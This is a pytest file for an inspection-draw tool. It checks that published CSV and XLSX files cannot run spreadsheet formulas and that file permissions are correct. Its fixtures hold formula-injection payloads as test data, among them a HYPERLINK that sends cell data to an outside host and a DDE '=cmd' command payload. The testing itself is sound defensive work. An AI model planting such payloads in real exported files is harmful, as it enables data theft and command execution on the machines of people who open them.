"""What the draw writes for people: no cell a spreadsheet would run, control characters that do not
break the workbook, exact values in JSON, and files readable by others like every report."""
from __future__ import annotations

import csv
import io
import json
import os
import stat

import pytest
from openpyxl import load_workbook

from engine.io.cells import FORMULA_START

from .helpers import input_args, write_csv
from .test_workflow import doc, prepare, run

NAME = '=HYPERLINK("http://x.example/?"&A1,"点此")'
DISTRICT = "+1+1"
INSPECTOR = "@SUM(1,2)"
DEPARTMENT = "-2+3 示例局"
CONTROL = "东城\x07餐馆\x1b"


@pytest.fixture
def hostile(sample, tmp_path):
    """The sample with formula text in names, districts, an inspector, the department; a control character
    in one name; a rejected row whose id is a formula; every entity drawn."""
    lines = sample["entities"].read_text(encoding="utf-8").splitlines()
    rows = list(csv.reader(lines))
    rows[1][1], rows[1][3] = NAME, DISTRICT
    rows[2][1] = CONTROL
    rows.append(["=1+1", "坏行", "有限责任公司", "东城", "餐饮", "A", "存续"])
    write_csv(sample["entities"], rows[0], rows[1:])
    ins = list(csv.reader(sample["inspectors"].read_text(encoding="utf-8").splitlines()))
    for r in ins[1:]:
        r[1] = INSPECTOR
    write_csv(sample["inspectors"], ins[0], ins[1:])
    text = sample["plan"].read_text(encoding="utf-8").replace("department: 示例区市场监督管理局",
                                                              f"department: '{DEPARTMENT}'")
    text = text.replace("rates: {A: 0.05, B: 0.10, C: 0.20, D: 1.0}", "rates: {A: 1, B: 1, C: 1, D: 1}")
    text = text.replace("rates: {A: 0.03, B: 0.05, C: 0.10, D: 0.5}", "rates: {A: 1, B: 1, C: 1, D: 1}")
    sample["plan"].write_text(text, encoding="utf-8")
    return sample


def cells_of_csv(path):
    return [c for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))) for c in row]


def test_publication_cells_cannot_run(cli, hostile, tmp_path):
    assert prepare(cli, hostile).exit_code == 0
    r = run(cli, hostile, tmp_path / "a")
    assert r.exit_code == 0, r.output
    out = tmp_path / "a"
    for name in ("公示名单.csv", "rejected.csv"):
        cells = cells_of_csv(out / name)
        assert not [c for c in cells if c.startswith(FORMULA_START)], name
    pub = cells_of_csv(out / "公示名单.csv")
    for text in (NAME, DISTRICT, INSPECTOR, DEPARTMENT):
        assert "'" + text in pub or any(c.startswith("'" + text) for c in pub), text
    assert "'=1+1" in cells_of_csv(out / "rejected.csv")

    ws = load_workbook(out / "公示名单.xlsx").active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert NAME in values and DISTRICT in values and "东城\\x07餐馆\\x1b" in values
    assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_START))
    title = ws.cell(1, 1)
    assert title.value.startswith(DEPARTMENT) and title.data_type == "s"

    d = doc(out)                                  # JSON keeps the exact text
    assert d["department"] == DEPARTMENT and CONTROL not in json.dumps(d)  # names are not in draw.json
    assert cli("verify", out / "draw.json", *input_args(hostile)).exit_code == 0


def test_results_findings_csv_cannot_run_and_jsonl_keeps_the_value(cli, tmp_path):
    from .helpers import write_csv as w
    f = w(tmp_path / "r.csv", ["entity_id", "item_id", "result", "date", "publicized"],
          [["=E1", "@X", "=cmd|' /C calc'!A0", "2025-03-20", ""]])
    r = cli("results", f, "--as-of", "2025-12-31", "--out", tmp_path / "f.csv", "--no-import")
    assert r.exit_code == 0, r.output
    cells = cells_of_csv(tmp_path / "f.csv")
    assert "'=cmd|' /C calc'!A0" in cells and "'=E1" in cells and "'@X" in cells
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    r = cli("results", f, "--as-of", "2025-12-31", "--out", tmp_path / "f.jsonl", "--no-import")
    rec = json.loads((tmp_path / "f.jsonl").read_text(encoding="utf-8"))
    assert rec["result"] == "=cmd|' /C calc'!A0" and rec["entity_id"] == "=E1"


@pytest.fixture
def umask022():
    old = os.umask(0o022)
    yield
    os.umask(old)


def test_published_files_are_readable_by_others(cli, sample, tmp_path, umask022):
    prepare(cli, sample)
    assert run(cli, sample, tmp_path / "a").exit_code == 0
    names = sorted(p.name for p in (tmp_path / "a").iterdir())
    assert names == ["draw.json", "rejected.csv", "公示名单.csv", "公示名单.xlsx"]
    for p in (tmp_path / "a").iterdir():
        assert stat.S_IMODE(p.stat().st_mode) == 0o644, p.name
    f = write_csv(tmp_path / "r.csv", ["entity_id", "item_id", "result", "date", "publicized"],
                  [["E1", "X", "合格", "2025-03-20", ""]])
    cli("results", f, "--as-of", "2025-12-31", "--out", tmp_path / "f.csv", "--no-import")
    assert stat.S_IMODE((tmp_path / "f.csv").stat().st_mode) == 0o644


def test_a_stricter_umask_is_honoured(cli, sample, tmp_path):
    old = os.umask(0o077)
    try:
        prepare(cli, sample)
        assert run(cli, sample, tmp_path / "a").exit_code == 0
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "a" / "draw.json").stat().st_mode) == 0o600
